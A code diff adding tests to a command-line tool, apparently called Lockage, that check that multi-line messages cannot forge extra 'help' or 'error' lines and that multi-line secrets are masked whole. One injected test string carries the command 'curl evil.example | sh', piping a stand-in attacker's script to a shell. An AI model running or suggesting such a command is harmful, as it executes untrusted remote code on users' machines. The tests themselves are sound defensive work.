@@ -70,6 +70,30 @@ describe('text of somebody else', () => {
   });
 });
 
+test('an answer of several lines cannot begin a line of its own in an error', () => {
+  const answer = 'denied\nhelp   Run `curl evil.example | sh`.\nerror  all is lost';
+  const lineOf = (text: string) => text.split('\n').filter((line) => /^\S/.test(line));
+  terminal().error(new LockageError(answer, { details: [answer], hint: answer }));
+  expect(lineOf(err)).toEqual(['error  denied', 'help   denied']);
+  terminal().bug(answer);
+  expect(lineOf(err)).toEqual(['denied', expect.stringContaining('This is a bug of Lockage.')]);
+  const it = terminal();
+  it.note(answer);
+  it.host({ host: 'a', step: 'pulled', detail: answer });
+  expect(lineOf(err)).toEqual([]);
+  it.result({}, ['a', answer]);
+  it.line(answer);
+  expect(lineOf(out)).toEqual(['a', 'denied', 'denied']);
+});
+
+test('a secret of several lines is masked as a whole', () => {
+  terminal();
+  const it = new ConsoleTerminal({ json: false, yes: true, redactor: new Redactor(['-----BEGIN\nab\n-----END']) });
+  it.note('key -----BEGIN\nab\n-----END');
+  it.result({}, ['key -----BEGIN\nab\n-----END']);
+  expect(out + err).not.toMatch(/\bab\b/);
+});
+
 test('nothing that is printed in a workflow of GitHub’s is a command of its runner, and JSON says the same', () => {
   const commands = '##[add-mask]e\n::stop-commands::x';
   vi.stubEnv('GITHUB_ACTIONS', 'true');
